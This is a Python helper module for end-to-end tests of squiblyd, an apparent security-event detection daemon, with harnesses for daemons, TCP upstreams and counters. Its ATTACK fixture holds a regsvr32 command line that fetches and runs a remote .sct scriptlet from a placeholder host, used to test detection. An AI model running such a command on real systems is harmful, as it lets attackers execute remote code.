"""What the end-to-end tests share: the real programs, an upstream to send alerts to, deadlines.

Python standard library only. Every wait has a deadline; nothing sleeps for a fixed time to be
"surely done". Ports are chosen by the system. A test file that could run nothing exits with 77,
which meson counts as skipped.
"""
import atexit
import fcntl
import gzip
import json
import os
import re
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import termios
import threading
import time
import unittest

SOURCE = os.environ["SQ_SOURCE_DIR"]
BUILD = os.environ["SQ_BUILD_DIR"]
SQUIBLY = os.path.join(BUILD, "cli", "squibly")
SQUIBLYD = os.path.join(BUILD, "daemon", "squiblyd")
DEMO = os.path.join(SOURCE, "tests", "data", "demo")
LONG = bool(os.environ.get("SQUIBLY_LONG"))
# All that a test file leaves behind lies in here, and goes at its end, unless something has failed.
RUN = tempfile.mkdtemp(prefix="squiblyd-run-")
os.chmod(RUN, 0o711)  # daemons may run as somebody else
tempfile.tempdir = RUN
atexit.register(lambda us=os.getpid(): KEEP or os.getpid() != us or shutil.rmtree(RUN, True))
KEEP = []
# How many loops a daemon has whose test does not say: what is true with one is true with several.
LOOPS = os.environ.get("SQUIBLY_LOOPS")
# Sanitizers make everything slower; deadlines are for hangs, not for speed.
DEADLINE = 60
TCP_ESTABLISHED, TCP_CLOSE_WAIT = 1, 8  # linux/tcp_states.h

ATTACK = ('{"EventID":4688,"Channel":"Security","Hostname":"ws-%d.corp.example",'
          '"NewProcessName":"C:\\\\Windows\\\\System32\\\\regsvr32.exe",'
          '"ParentProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe",'
          '"CommandLine":"regsvr32 /s /n /u /i:http://files.example.net/%d.sct scrobj.dll"}')
ORDINARY = ('{"EventID":4688,"Channel":"Security","Hostname":"ws-%d.corp.example",'
            '"NewProcessName":"C:\\\\Windows\\\\System32\\\\notepad.exe",'
            '"ParentProcessName":"C:\\\\Windows\\\\explorer.exe","CommandLine":"notepad.exe %d.txt"}')


def compiled():
    """Where daemons keep compiled rules: one folder for each build, since compiling them at each start is most of the
    time that tests would take."""
    if not os.path.exists(SQUIBLYD):
        return tempfile.gettempdir()
    above = os.path.join(BUILD, "tests", "e2e", "cache")
    build = str(os.stat(SQUIBLYD).st_mtime_ns)
    if not os.path.isdir(os.path.join(above, build)):
        for older in os.listdir(above) if os.path.isdir(above) else []:
            shutil.rmtree(os.path.join(above, older), True)
        os.makedirs(os.path.join(above, build), exist_ok=True)
    return os.path.join(above, build)


def attack(n):
    return (ATTACK % (n, n)).encode() + b"\n"


def ordinary(n):
    return (ORDINARY % (n, n)).encode() + b"\n"


def shared():
    """The folder of real events beside the source tree, or a skip."""
    path = os.environ.get("SQUIBLY_SHARED") or os.path.join(SOURCE, "..", "shared")
    if not os.path.isdir(os.path.join(path, "corpus")):
        raise unittest.SkipTest("no folder of shared events (SQUIBLY_SHARED) on this machine")
    return os.path.abspath(path)


def lines_of(path):
    opener = gzip.open if path.endswith(".gz") else open
    with opener(path, "rb") as f:
        return f.read().splitlines()


def eventually(what, condition, deadline=DEADLINE):
    """Wait until `condition()` is true and give its value; fail with `what` at the deadline."""
    end = time.monotonic() + deadline
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > end:
            raise AssertionError(f"not within {deadline} s: {what() if callable(what) else what}")
        time.sleep(0.01)


def acknowledged(s):
    """All that was sent is with the other side's kernel, or never will be: the connection is broken."""
    waiting = struct.unpack("i", fcntl.ioctl(s, termios.TIOCOUTQ, bytes(4)))[0]
    state = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    return waiting == 0 or state not in (TCP_ESTABLISHED, TCP_CLOSE_WAIT)


def squibly(*args, stdin=None, status=0):
    """Run the tool. Gives (stdout, stderr) as bytes and text; any other exit status fails."""
    run = subprocess.run([SQUIBLY, *args], input=stdin, capture_output=True, timeout=600,
                         stdin=None if stdin is not None else subprocess.DEVNULL)
    err = run.stderr.decode("utf-8", "replace")
    if run.returncode != status:
        raise AssertionError(f"squibly {args}: status {run.returncode}, not {status}\n{err}\n"
                             f"{run.stdout.decode('utf-8', 'replace')[:2000]}")
    return run.stdout, err


def scan(*args, stdin=None):
    """Alerts of `squibly scan` as objects, and its summary as a dict of numbers."""
    out, err = squibly("scan", "--format", "json", *args, stdin=stdin)
    alerts = [json.loads(line) for line in out.splitlines()]
    numbers = {}
    for value, name in re.findall(r"(\d+) (events|alerts|malformed|oversized|unread)", err):
        numbers[name] = int(value)
    return alerts, numbers


class Upstream:
    """Takes lines over TCP. `stop()` closes it, `start()` opens the same port again."""

    def __init__(self, port=0, stalled=False):
        self.lines, self.port, self.stalled = [], port, stalled
        self.socket, self.connections, self.thread = None, [], None
        self.start()

    def start(self):
        self.socket = socket.create_server(("127.0.0.1", self.port))
        self.port = self.socket.getsockname()[1]
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        rest = {}
        while self.running:
            watch = [self.socket] + ([] if self.stalled else self.connections)
            for s in select.select(watch, [], [], 0.02)[0]:
                if s is self.socket:
                    c = s.accept()[0]
                    self.connections.append(c)
                    rest[c] = b""
                    continue
                try:
                    data = s.recv(1 << 20)
                except OSError:
                    data = b""
                if not data:
                    self.connections.remove(s)
                    s.close()
                    continue
                *whole, rest[s] = (rest[s] + data).split(b"\n")
                self.lines += whole

    def stop(self):
        self.running = False
        self.thread.join()
        for c in self.connections:
            c.close()
        self.connections = []
        self.socket.close()

    def expect(self, n):
        """Exactly so many lines: what its kernel has taken, which is what senders are answered for, is read in a moment."""
        eventually(lambda: f"{n} lines upstream, {len(self.lines)} are there", lambda: len(self.lines) >= n)
        if len(self.lines) != n:
            raise AssertionError(f"{n} lines upstream, {len(self.lines)} are there")

    def alerts(self):
        return [json.loads(line) for line in list(self.lines)]

    def whole_alerts(self):
        """Those that a daemon which was killed did not only begin."""
        for line in list(self.lines):
            try:
                yield json.loads(line)
            except ValueError:
                continue


class Daemon:
    """squiblyd with a configuration in a folder of its own, listening on ports of its own."""

    def __init__(self, config="", inputs=True, args=(), upstream=None, env=None, folder=None, wrap=(), pass_fds=(),
                 program=SQUIBLYD):
        self.folder = folder or tempfile.mkdtemp(prefix="squiblyd-e2e-")
        self.config = os.path.join(self.folder, "squiblyd.yaml")
        text = ""
        if inputs:
            text += ("inputs:\n  - type: tcp\n    listen: 127.0.0.1:0\n"
                     "  - type: udp\n    listen: 127.0.0.1:0\n")
        if upstream is not None:
            text += f"outputs:\n  - type: tcp\n    address: 127.0.0.1:{upstream.port}\n"
        if LOOPS and (text or config) and not re.search("^loops:", config, re.M):
            config += f"loops: {LOOPS}\n"
        with open(self.config, "w", encoding="utf-8") as f:
            f.write(text + config)
        # `wrap`: a program that runs it, and its arguments.
        self.args = [*wrap, program, *(["-c", self.config] if text or config else []), *args]
        self.env = {**os.environ, "XDG_CACHE_HOME": compiled(), **(env or {})}
        if "durability: spool" in config:  # it notes there what was delivered, and not for all of the machine
            self.env.setdefault("RUNTIME_DIRECTORY", self.folder)
        self.out, self.err = [], []
        self.process = subprocess.Popen(self.args, stdin=subprocess.DEVNULL, env=self.env, pass_fds=pass_fds,
                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.readers = [threading.Thread(target=self._read, args=pair, daemon=True)
                        for pair in ((self.process.stdout, self.out), (self.process.stderr, self.err))]
        for reader in self.readers:
            reader.start()

    @staticmethod
    def _read(pipe, to):
        for line in pipe:
            to.append(line.rstrip(b"\n").decode("utf-8", "replace"))

    def said(self, pattern, after=0):
        """The first match in standard error from line `after` on, or None."""
        for line in self.err[after:]:
            found = re.search(pattern, line)
            if found:
                return found
        return None

    def wait_said(self, pattern, after=0, deadline=DEADLINE):
        def look():
            found = self.said(pattern, after)
            if not found and self.process.poll() is not None:
                self.readers[1].join()
                found = self.said(pattern, after)
                if not found:
                    raise AssertionError(f"squiblyd ended with {self.process.returncode} before it "
                                         f"said {pattern!r}:\n" + "\n".join(self.err))
            return found
        return eventually(lambda: f"{pattern!r} in\n" + "\n".join(self.err), look, deadline)

    def port(self, kind="tcp"):
        return int(self.wait_said(rf"listening on (?:[^;]*, )?{kind} [^\s,;]*:(\d+)").group(1))

    def connect(self):
        return socket.create_connection(("127.0.0.1", self.port("tcp")), timeout=DEADLINE)

    def send(self, data):
        """Returns when all is with the kernel of the receiver: on a busy machine that takes a moment."""
        with self.connect() as s:
            s.sendall(data)
            eventually("all bytes acknowledged", lambda: acknowledged(s))
            s.shutdown(socket.SHUT_WR)

    def counters(self):
        """The counters as SIGUSR1 prints them now."""
        before = len(self.err)
        self.process.send_signal(signal.SIGUSR1)
        self.wait_said(r"received \d+ = ", before)
        eventually("the table of counters", lambda: self.said(r"^  bytes_in |^  received ", before))
        return self._parse(before)

    def _parse(self, after):
        numbers = {}
        for line in self.err[after:]:
            row = re.match(r"\s*([a-z_]+)\s+(\d+)(\s|$)", line)
            if row:
                numbers.setdefault(row.group(1), int(row.group(2)))
            if " = alerted " in line:
                for name, value in re.findall(r"(received|alerted|clean|malformed|oversized|dropped) "
                                              r"(\d+)", line):
                    numbers[name] = int(value)
        return numbers

    def wait_received(self, n, deadline=DEADLINE):
        """Wait until `n` records are taken in and accounted for."""
        last = {}

        def look():
            last.clear()
            last.update(self.counters())
            done = sum(last.get(k, 0) for k in ("alerted", "clean", "malformed", "oversized", "dropped"))
            return last.get("received", 0) >= n and done == last["received"] and dict(last)
        return eventually(lambda: f"{n} records received: {last}", look, deadline)

    def hup(self):
        before = len(self.err)
        self.process.send_signal(signal.SIGHUP)
        return before

    def stop(self, how=signal.SIGTERM, deadline=DEADLINE):
        """Ask it to stop; gives the exit status, and the counters it printed on the way out."""
        before = len(self.err)
        if self.process.poll() is None:
            self.process.send_signal(how)
        status = self.wait(deadline)
        return status, self._parse(before)

    def wait(self, deadline=DEADLINE):
        """Wait for its end and for all that it said; gives the exit status."""
        status = self.process.wait(deadline)
        for reader in self.readers:
            reader.join()
        self.process.stdout.close()
        self.process.stderr.close()
        return status

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
        self.wait()


class Case(unittest.TestCase):
    """Ends what a test started, also when it fails."""

    maxDiff = None

    def scratch(self):
        """A folder that goes with the test."""
        folder = tempfile.mkdtemp(prefix="squiblyd-e2e-")
        self.addCleanup(shutil.rmtree, folder, True)
        return folder

    def daemon(self, *args, **named):
        named["folder"] = named.get("folder") or self.scratch()
        d = Daemon(*args, **named)
        self.addCleanup(d.kill)
        return d

    def upstream(self, *args, **named):
        u = Upstream(*args, **named)
        self.addCleanup(lambda: u.running and u.stop())
        return u

    def assert_accounts(self, lines, alerts):
        """What was raised has one place in the account of each output, to the last alert."""
        name = None
        for line in lines:
            name = line[len("output "):] if line.startswith("output ") else name
            account = re.match(r"  ((?:raised|records) .*) = (.*)$", line)
            if not account:
                continue
            left, right = ([int(n) for n in re.findall(r" (\d+)", re.sub(r"\([^)]*\)", "", " " + side))]
                           for side in account.groups())
            self.assertEqual(sum(left), sum(right), f"{name}: {line}")
            if account.group(1).startswith("raised") and not name.startswith("dead letters"):
                self.assertEqual(left[0], alerts, f"{name}: {line}")
            name = None

    def assert_stops(self, daemon, received=None, how=signal.SIGTERM):
        """It ends with status 0, and what it received, and what was made of it, is accounted for to the last record."""
        before = len(daemon.err)
        status, c = daemon.stop(how)
        self.assertEqual(status, 0, "\n".join(daemon.err))
        self.assertIn("received", c, "\n".join(daemon.err))
        self.assertEqual(c["received"], c["alerted"] + c["clean"] + c["malformed"] + c["oversized"]
                         + c["dropped"], c)
        self.assertNotIn("MISCOUNTED", "\n".join(daemon.err))
        self.assert_accounts(daemon.err[before:], c.get("alerts", 0))
        if received is not None:
            self.assertEqual(c["received"], received, c)
        return c


def main():
    run = unittest.main(module="__main__", exit=False, verbosity=2).result
    for _, why in run.skipped:
        print("skipped:", why)
    if not run.wasSuccessful():
        KEEP.append(RUN)
        print("what it has left is in", RUN)
        sys.exit(1)
    if run.skipped and len(run.skipped) >= run.testsRun:  # a class that is skipped as a whole has run no test
        sys.exit(77)
